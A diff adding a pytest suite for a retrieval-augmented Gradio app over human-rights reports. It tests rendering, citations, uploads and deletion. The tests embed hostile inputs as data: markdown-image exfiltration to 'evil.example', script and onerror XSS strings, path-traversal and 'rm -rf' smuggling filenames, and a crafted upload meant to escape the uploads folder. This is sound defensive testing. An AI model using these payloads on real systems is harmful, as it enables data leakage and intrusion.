@@ -1,0 +1,377 @@
+"""The web app: the pure rendering helpers (rag/ui.py), then the real app in a subprocess driven by gradio_client.
+
+The subprocess starts on an empty store, so it ingests the bundled corpus itself (~20 s) before serving.
+"""
+from __future__ import annotations
+
+import html
+import json
+import os
+import re
+import signal
+import socket
+import subprocess
+import sys
+import time
+import zipfile
+from pathlib import Path
+
+import pytest
+
+from rag import ui
+from rag.config import ROOT
+from rag.model import Answer, Citation, Document, Paragraph, Position
+
+GREAT_FIREWALL = "What is recommended regarding the Great Firewall?"
+
+
+# ============================================================================================== helpers
+def free_port() -> int:
+    with socket.socket() as s:
+        s.bind(("127.0.0.1", 0))
+        return s.getsockname()[1]
+
+
+def start_app(store: Path, log: Path, *extra: str, wait_s: float = 300) -> tuple[subprocess.Popen, str]:
+    """Start `python app.py` on a free port with its own store; wait until it serves. -> (process, url)."""
+    port = free_port()
+    env = {k: v for k, v in os.environ.items() if not k.startswith("RAG_")}
+    env["RAG_STORE"] = str(store)
+    out = open(log, "w")
+    proc = subprocess.Popen([sys.executable, "app.py", "--port", str(port), "--store", str(store), *extra],
+                            cwd=ROOT, env=env, stdout=out, stderr=subprocess.STDOUT, start_new_session=True)
+    url = f"http://127.0.0.1:{port}"
+    deadline = time.time() + wait_s
+    while time.time() < deadline:
+        if proc.poll() is not None:
+            raise RuntimeError(f"app exited with {proc.returncode}:\n{log.read_text()[-3000:]}")
+        try:
+            with socket.create_connection(("127.0.0.1", port), timeout=1):
+                break
+        except OSError:
+            time.sleep(0.5)
+    else:
+        stop_app(proc)
+        raise RuntimeError(f"app did not start in {wait_s:.0f} s:\n{log.read_text()[-3000:]}")
+    import httpx
+
+    for _ in range(60):  # the port opens a moment before the routes answer
+        try:
+            if httpx.get(url + "/config", timeout=5).status_code == 200:
+                break
+        except httpx.HTTPError:
+            pass
+        time.sleep(0.5)
+    return proc, url
+
+
+def stop_app(proc: subprocess.Popen) -> None:
+    if proc.poll() is None:
+        proc.send_signal(signal.SIGINT)
+        try:
+            proc.wait(timeout=20)
+        except subprocess.TimeoutExpired:
+            proc.kill()
+            proc.wait(timeout=10)
+
+
+def make_answer(**kw) -> Answer:
+    c1 = Citation(n=1, doc="d1", title="UPR <b>2018</b>", label="9(8)", page=3, section="Surveillance & <i>SCS</i>",
+                  text="Respect citizens’ right to free internet access and dismantle the Great Firewall of China",
+                  quote="dismantle the Great Firewall", kind="recommendation", date="2018", paragraph_id="d1:00025")
+    c2 = Citation(n=2, doc="d2", title="Briefing", label="4", page=None, section=None,
+                  text="At least 43 lawyers were penalised.", quote="At least 43 lawyers were penalised.",
+                  date="2022", paragraph_id="d2:00003")
+    base = dict(question="What about the <script>alert(1)</script> firewall?",
+                answer="It says dismantle it [1]. Lawyers were penalised [2]. ![x](http://evil.example/?q=secret)",
+                found=True, citations=[c1, c2])
+    base.update(kw)
+    return Answer(**base)
+
+
+def paragraphs(n: int = 12, doc: str = "d1") -> list[Paragraph]:
+    out = [Paragraph(id=f"{doc}:{i:05d}", doc_id=doc, ordinal=i, label=str(i + 1), kind="paragraph",
+                     text=f"Paragraph number {i + 1} says <b>something</b> about topic {i + 1}.", page=1 + i // 5,
+                     section="Intro")
+           for i in range(n)]
+    out[0].kind, out[0].label = "heading", "h1"
+    out[3].kind, out[3].label = "footnote", "fn1"
+    return out
+
+
+# ============================================================================================== rag/ui.py
+def test_clean_markdown_strips_images_links_and_html():
+    text = ('See ![pixel](http://evil.example/?q=secret) and [click](javascript:alert(1)) <img src=x onerror=alert(1)>'
+            '<script>alert(2)</script> <!-- hidden --> ![ref][r]\n[r]: http://evil.example/x.png\nkeep [3] and a < b')
+    out = ui.clean_markdown(text)
+    assert "http://evil" not in out and "javascript:" not in out
+    assert "<img" not in out and "<script" not in out and "hidden" not in out
+    assert "pixel" in out and "click" in out and "[3]" in out and "a &lt; b" in out
+
+
+def test_chat_markdown_links_markers_and_marks_not_found():
+    answer = make_answer()
+    out = ui.chat_markdown(answer, turn=4)
+    assert "[\\[1\\]](#cite-4-1)" in out and "[\\[2\\]](#cite-4-2)" in out
+    assert "evil.example" not in out
+    refused = make_answer(found=False, citations=[], answer="The indexed documents do not answer this [7].")
+    out = ui.chat_markdown(refused, turn=0)
+    assert out.startswith('<span class="rag-notfound">Not in the documents</span>')
+    assert "#cite" not in out  # a marker naming no citation stays plain text
+
+
+def test_history_pairs_are_question_answer_tuples():
+    answers = [make_answer(question=f"q{i}", answer=f"a{i}") for i in range(8)]
+    assert ui.history_pairs(answers, limit=3) == [("q5", "a5"), ("q6", "a6"), ("q7", "a7")]
+
+
+def test_render_sources_escapes_and_carries_turn_and_number():
+    out = ui.render_sources(make_answer(), turn=2, active=1)
+    assert "<b>" not in out and "<i>" not in out and "<script>" not in out
+    assert "UPR 2018" in out and "¶9(8)" in out and "p. 3" in out and "(2018)" in out
+    assert 'data-turn="2" data-n="1"' in out and 'data-turn="2" data-n="2"' in out
+    assert "rag-active" in out and "Recommendation" in out
+    assert "“dismantle the Great Firewall”" in out
+    assert "Sources appear here" in ui.render_sources(None)
+    assert "No passages" in ui.render_sources(make_answer(citations=[], found=False))
+
+
+def test_render_document_shows_neighbours_and_marks_the_quote():
+    ps = paragraphs(12)
+    doc = Document(doc_id="d1", title="A <i>report</i>", sha256="x", format="text", paragraphs=12, date="2018")
+    out = ui.render_document(ps, "d1:00006", "number 7 SAYS", context=2, document=doc)
+    assert out.count('class="rag-para') + out.count("rag-doc-heading") == 5
+    assert "<mark>number 7 says</mark>" in out  # case-insensitive match, original text kept
+    assert "rag-focus" in out and "A report (2018)" in out and "<i>" not in out
+    assert "&lt;b&gt;something&lt;/b&gt;" in out and "<b>" not in out
+    assert "paragraphs above" in out and "paragraphs below" in out
+    assert "fn1" not in out  # footnotes are left out of the window
+    whole = ui.render_document(ps, "d1:00006", None, context=None)
+    assert whole.count('class="rag-para') == 11 and "<mark>" not in whole
+    assert "no longer in the library" in ui.render_document([], "x", None)
+
+
+def test_highlight_tolerates_whitespace_and_escapes():
+    text = "Alpha <beta> gamma\n delta. Epsilon."
+    assert ui.highlight(text, "gamma delta.") == "Alpha &lt;beta&gt; <mark>gamma\n delta.</mark> Epsilon."
+    assert ui.highlight(text, "not there") == html.escape(text)
+
+
+def test_render_positions_one_column_per_holder():
+    answer = make_answer(disagreement=True, positions=[
+        Position(holder="UPR 2018; Another <b>holder</b>", summary="Critical view [1].", citations=[1],
+                 date="2018", stance="critical"),
+        Position(holder="Briefing 2022", summary="Supportive view [13].", citations=[2], date="2022",
+                 stance="supportive")])
+    out = ui.render_positions(answer, turn=1)
+    assert out.count('class="rag-position"') == 2
+    assert "Another holder" in out and "<b>" not in out
+    assert 'data-turn="1" data-n="1"' in out and 'data-turn="1" data-n="2"' in out
+    assert "[13]" not in out  # a summary marker that names no citation of the answer is dropped
+    assert ui.render_positions(make_answer()) == ""
+
+
+@pytest.mark.parametrize("name, safe", [
+    ("../../etc/passwd.md", "passwd.md"),
+    ("..\\..\\windows\\x.TXT", "x.txt"),
+    ("/abs/path/report.pdf", "report.pdf"),
+    ("..", "upload"),
+    (".hidden.md", "hidden.md"),
+    ("a b;rm -rf $(x).docx", "a-b-rm-rf-x.docx"),
+    ("报告 2018.pdf", "报告-2018.pdf"),
+    ("evil\x00.md", "evil.md"),
+    ("ｆｕｌｌ／..／name.md", "name.md"),
+])
+def test_safe_filename(name, safe):
+    assert ui.safe_filename(name) == safe
+    assert "/" not in ui.safe_filename(name) and not ui.safe_filename(name).startswith(".")
+
+
+def test_check_upload_refuses_types_and_sizes():
+    assert ui.check_upload("Report.PDF", 1000, 25) == "Report.pdf"
+    for bad in ("x.exe", "x.svg", "x.html.exe", "noext"):
+        with pytest.raises(ui.UploadRefused):
+            ui.check_upload(bad, 1000, 25)
+    with pytest.raises(ui.UploadRefused, match="limit"):
+        ui.check_upload("big.pdf", 26 * 1024 * 1024, 25)
+    with pytest.raises(ui.UploadRefused, match="empty"):
+        ui.check_upload("empty.md", 0, 25)
+
+
+def test_recommendation_rows_search_and_filter():
+    ps = paragraphs(4)
+    ps[1].kind, ps[1].text, ps[1].context = "recommendation", "Dismantle the Great Firewall", "Intro to internet"
+    ps[2].kind, ps[2].text = "recommendation", "Release all detainees"
+    other = Paragraph(id="d2:00001", doc_id="d2", ordinal=1, label="3(1)", kind="recommendation",
+                      text="Ratify the ICCPR")
+    rows, ids = ui.recommendation_rows(ps + [other], {"d1": "UPR", "d2": "Other"})
+    assert ids == ["d1:00001", "d1:00002", "d2:00001"] and rows[0][0] == "UPR"
+    assert ui.recommendation_rows(ps + [other], {}, "internet firewall")[1] == ["d1:00001"]  # context counts
+    assert ui.recommendation_rows(ps + [other], {}, "", "d2")[1] == ["d2:00001"]
+    assert "“Dismantle the Great Firewall”" in ui.question_about(ps[1], "UPR")
+
+
+# ============================================================================================== the running app
+@pytest.fixture(scope="module")
+def app_url(tmp_path_factory):
+    folder = tmp_path_factory.mktemp("app")
+    store = folder / "store"
+    log = folder / "app.log"
+    proc, url = start_app(store, log)
+    yield url, store, log
+    stop_app(proc)
+
+
+@pytest.fixture
+def client(app_url):
+    from gradio_client import Client
+
+    return Client(app_url[0], verbose=False)
+
+
+def ask(client, question: str, doc_ids=None):
+    chat, box, sources, positions, data, viewer = client.predict(question, doc_ids or [], api_name="/ask")
+    return chat, sources, positions, data
+
+
+def chat_text(message: dict) -> str:
+    content = message["content"]
+    if isinstance(content, list):
+        return "".join(part.get("text", "") for part in content if isinstance(part, dict))
+    return str(content)
+
+
+def test_app_ingested_the_corpus_on_start(app_url):
+    log = app_url[2].read_text()
+    assert "The library is empty: adding the bundled documents" in log
+    assert "2 added" in log
+
+
+def test_ask_gives_a_cited_answer(client):
+    chat, sources, positions, data = ask(client, GREAT_FIREWALL)
+    assert data["found"] is True and data["citations"]
+    assert re.search(r"\[\d+\]", data["answer"])
+    assert any("Great Firewall" in c["text"] for c in data["citations"])
+    assert [m["role"] for m in chat] == ["user", "assistant"]
+    assert "(#cite-0-1)" in chat_text(chat[1])  # markers are links the page turns into 'open this source'
+    assert "¶" in sources and 'data-n="1"' in sources
+
+
+def test_follow_up_keeps_the_conversation(client):
+    ask(client, GREAT_FIREWALL)
+    chat, _, _, data = ask(client, "And what about censorship?")
+    assert len(chat) == 4  # the session's conversation: both questions and both answers
+    assert data["question"] == "And what about censorship?"
+
+
+def test_not_found_is_marked(client):
+    chat, sources, _, data = ask(client, "What is the unemployment rate in Xinjiang?")
+    assert data["found"] is False
+    assert "Not in the documents" in chat_text(chat[-1])
+
+
+def test_disagreement_positions_side_by_side(client):
+    _, _, positions, data = ask(client, "Is Western criticism of China's human rights record fair?")
+    if not data["disagreement"]:
+        pytest.skip("the pipeline found no disagreement for this question")
+    assert positions.count('class="rag-position"') == len(data["positions"]) >= 2
+
+
+def test_upload_ask_and_delete(client, app_url, tmp_path):
+    store = app_url[1]
+    path = tmp_path / "zebra-crossing-policy-2031.md"
+    path.write_text("# Zebra crossings\n\n1. The Ministry of Road Safety recommends that every zebra crossing near "
+                    "a school be repainted in luminous purple by 2031.\n\n2. The ministry estimates the repainting "
+                    "will cost 4.2 million pounds.\n\n"
+                    "3. Evil content <img src=x onerror=alert(1)> and ![pixel](http://evil.example/?q=leak) here.\n",
+                    encoding="utf-8")
+    from gradio_client import handle_file
+
+    report_html, report, _ = client.predict([handle_file(str(path))], api_name="/upload")
+    assert [r["status"] for r in report] == ["added"], report
+    assert report[0]["paragraphs"] >= 3 and "added" in report_html
+    doc_id = report[0]["doc_id"]
+    assert (store / "uploads" / path.name).is_file()
+    assert not list((store / "uploads").glob(".incoming/*"))
+
+    _, sources, _, data = ask(client, "What colour should zebra crossings near schools be repainted?", [doc_id])
+    assert data["found"] and {c["doc"] for c in data["citations"]} == {doc_id}
+    assert "purple" in data["answer"]
+
+    chat, sources, _, data = ask(client, "What does the evil content say?", [doc_id])
+    rendered = json.dumps(chat) + sources
+    assert "<img" not in rendered and "evil.example" not in rendered
+
+    message = client.predict(doc_id, api_name="/delete")
+    assert "Deleted" in message
+    assert not (store / "uploads" / path.name).exists()
+    _, _, _, data = ask(client, "What colour should zebra crossings near schools be repainted?")
+    assert doc_id not in {c["doc"] for c in data["citations"]}
+
+
+def test_upload_of_a_disallowed_type_is_refused(client, app_url, tmp_path):
+    store = app_url[1]
+    bad = tmp_path / "payload.exe"
+    bad.write_bytes(b"MZ not a report")
+    from gradio_client import handle_file
+
+    try:
+        _, report, _ = client.predict([handle_file(str(bad))], api_name="/upload")
+    except Exception as exc:  # noqa: BLE001 - Gradio's own file-type check refuses it first
+        assert "Invalid file type" in str(exc) or "not accepted" in str(exc) or "Error" in type(exc).__name__
+    else:
+        assert [r["status"] for r in report] == ["failed"] and "not accepted" in report[0]["reason"]
+    assert not list((store / "uploads").glob("payload*"))
+
+
+def test_upload_name_cannot_escape_the_uploads_folder(app_url):
+    """A crafted multipart filename and orig_name ('../../x.md') still lands inside <store>/uploads."""
+    import httpx
+
+    url, store, _ = app_url
+    name = "../../../escape-attempt-2030.md"
+    body = b"1. The escape committee recommends staying inside the uploads folder in 2030.\n"
+    up = httpx.post(url + "/gradio_api/upload", files=[("files", (name, body, "text/markdown"))], timeout=30)
+    up.raise_for_status()
+    server_path = up.json()[0]
+    payload = {"data": [[{"path": server_path, "orig_name": name, "meta": {"_type": "gradio.FileData"}}]]}
+    event = httpx.post(url + "/gradio_api/call/upload", json=payload, timeout=30).json()["event_id"]
+    with httpx.stream("GET", f"{url}/gradio_api/call/upload/{event}", timeout=120) as response:
+        stream = "".join(response.iter_text())
+    assert "event: complete" in stream, stream[-1000:]
+    uploads = (store / "uploads").resolve()
+    landed = [p for p in store.parent.rglob("escape-attempt-2030.md")]
+    assert landed and all(p.resolve().is_relative_to(uploads) for p in landed), landed
+    data = json.loads(stream.split("event: complete", 1)[1].split("data:", 1)[1].strip())
+    report = data[1][0]
+    assert report["status"] == "added" and "/" not in report["file"].removeprefix("uploads/")
+    from gradio_client import Client
+
+    Client(url, verbose=False).predict(report["doc_id"], api_name="/delete")
+    assert not (uploads / "escape-attempt-2030.md").exists()
+
+
+def test_recommendations_endpoint_filters(client):
+    table = client.predict("firewall", "", api_name="/recommendations")
+    rows = table["data"] if isinstance(table, dict) else table
+    assert rows and all("firewall" in " ".join(map(str, r)).lower() for r in rows)
+    assert any(r[1] == "9(8)" for r in rows)
+
+
+def test_briefing_export(client):
+    ask(client, GREAT_FIREWALL)
+    files, preview = client.predict([], api_name="/briefing")
+    paths = [Path(f) for f in files]
+    assert {p.suffix for p in paths} == {".md", ".docx"}
+    markdown = next(p for p in paths if p.suffix == ".md").read_text(encoding="utf-8")
+    assert "Great Firewall" in markdown and "Great Firewall" in preview
+    assert zipfile.is_zipfile(next(p for p in paths if p.suffix == ".docx"))
+
+
+def test_a_second_app_on_the_same_store_is_refused(app_url):
+    store = app_url[1]
+    env = {k: v for k, v in os.environ.items() if not k.startswith("RAG_")}
+    done = subprocess.run([sys.executable, "app.py", "--port", str(free_port()), "--store", str(store)], cwd=ROOT,
+                          env=env, capture_output=True, text=True, timeout=120)
+    assert done.returncode == 2
+    assert "in use by" in done.stderr
